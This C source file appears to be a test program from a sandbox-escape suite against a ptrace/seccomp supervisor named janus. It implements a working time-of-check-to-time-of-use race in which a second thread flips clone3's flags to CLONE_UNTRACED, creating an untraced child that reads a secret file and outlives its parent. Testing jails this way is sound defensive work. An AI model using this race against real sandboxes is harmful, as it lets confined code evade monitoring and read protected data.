/* e0512-clone3-flag-flip - argument TOCTOU on clone3's flags.
 *
 * Attack: clone3() takes its flags from a struct clone_args in the
 * program's memory, which the kernel reads after any check.  One thread
 * flips its flags between 0 (a plain fork) and CLONE_UNTRACED while the
 * main thread calls clone3 again and again: a supervisor that checked 0
 * but lets the kernel read the program's struct again ends up with a
 * child it never traces, which reads the secret.
 * The flipped value also holds CLONE_PARENT_SETTID, aimed at a shared
 * page: the kernel writes the child's pid there before the child runs,
 * so parent and child know it was made from the flipped flags (both bits
 * are in one byte: no torn read gives one without the other).  Only such
 * a child tries the secret, so the native run shows that the kernel acted
 * on the flipped flags, not merely that a child could read a file.  It
 * then stays a while, unwaited for: under janus's seccomp prefilter the
 * calls janus checks fail with ENOSYS in a task it does not trace, but a
 * task of the jail that janus does not know outlives it (the driver's
 * evidence), and without the prefilter it reads the secret too.
 * Source: Watson 2007 (exploiting concurrency vulnerabilities in system
 * call wrappers); doc/races.md ("clone3 gets a copy of its struct
 * clone_args").
 * Usage: e0512-clone3-flag-flip SECRET */
#include <errno.h>
#include <linux/sched.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "escape.h"

#define FLIPPED ((uint64_t)(CLONE_UNTRACED | CLONE_PARENT_SETTID))
#define LINGER_S 120	/* how long a child made from FLIPPED stays (the driver kills it) */

/* The page parent and children share. */
struct shared {
	int32_t settid;		/* CLONE_PARENT_SETTID writes the pid here */
	int32_t shown;		/* a flipped child has printed what it read */
};

static struct clone_args ca;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!stop) {
		__atomic_store_n(&ca.flags, FLIPPED, __ATOMIC_RELAXED);
		__atomic_store_n(&ca.flags, 0, __ATOMIC_RELAXED);
	}
	return NULL;
}

/* In the child: if the kernel gave it FLIPPED, it reads the secret and
 * stays, beyond its parent's end. */
static void __attribute__((noreturn)) child(volatile struct shared *sh, const char *secret)
{
	if (sh->settid != getpid())
		_exit(0);
	esc_try_read("a child made with CLONE_UNTRACED reads SECRET", secret);
	fflush(stdout);
	sh->shown = 1;
	sleep(LINGER_S);
	_exit(0);
}

/* Waits until the flipped child pid has printed (or is gone). */
static void wait_shown(volatile struct shared *sh, pid_t pid)
{
	siginfo_t info = { .si_pid = 0 };
	while (!sh->shown && waitid(P_PID, (id_t)pid, &info, WEXITED | WNOHANG | WNOWAIT) == 0 &&
	       info.si_pid == 0)
		usleep(1000);
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0512-clone3-flag-flip SECRET");
	volatile struct shared *sh = mmap(NULL, sizeof *sh, PROT_READ | PROT_WRITE,
					  MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (sh == MAP_FAILED)
		esc_die("mmap");
	ca.exit_signal = SIGCHLD;
	ca.parent_tid = (uintptr_t)&sh->settid;
	fflush(NULL);
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long made = 0, flipped = 0, refused = 0;
	int last = 0;
	esc_race_init(&r);
	while (!flipped && esc_race_go(&r)) {
		sh->settid = 0;
		long pid = syscall(SYS_clone3, &ca, sizeof ca);
		if (pid == 0)
			child(sh, argv[1]);
		if (pid < 0) {
			refused++;
			last = errno;
			continue;
		}
		made++;
		if (sh->settid == pid) {	/* made from FLIPPED: not waited for */
			flipped++;
			wait_shown(sh, (pid_t)pid);
			continue;
		}
		while (waitpid((pid_t)pid, NULL, 0) < 0 && errno == EINTR)
			;
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("clone3 flag race: %ld tries; %ld children, %ld made with CLONE_UNTRACED; "
	       "%ld refused%s%s\n", r.tries, made, flipped, refused,
	       refused ? "; last " : "", refused ? esc_errno_name(last) : "");
	return 0;
}
